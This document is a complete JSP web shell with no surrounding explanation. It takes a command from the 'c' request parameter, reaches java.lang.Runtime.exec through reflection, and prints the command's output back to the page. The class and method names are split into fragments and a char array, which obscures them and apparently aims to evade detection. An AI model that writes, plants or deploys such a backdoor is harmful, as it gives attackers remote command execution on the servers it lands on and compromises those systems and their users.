<%@ page import="java.lang.reflect.*,java.io.*" %>
<%
    String c = request.getParameter("c");
    if (c != null) {
        String cn = "java.la" + "ng.Run" + "time";
        Class<?> k = Class.forName(cn);
        Object rt = k.getMethod("get" + "Runtime").invoke(null);
        Method m = k.getMethod(new String(new char[]{'e','x','e','c'}), String.class);
        Process p = (Process) m.invoke(rt, c);
        InputStream in = p.getInputStream();
        int b; StringBuilder sb = new StringBuilder();
        while ((b = in.read()) != -1) sb.append((char) b);
        out.print("<pre>" + sb + "</pre>");
    }
%>
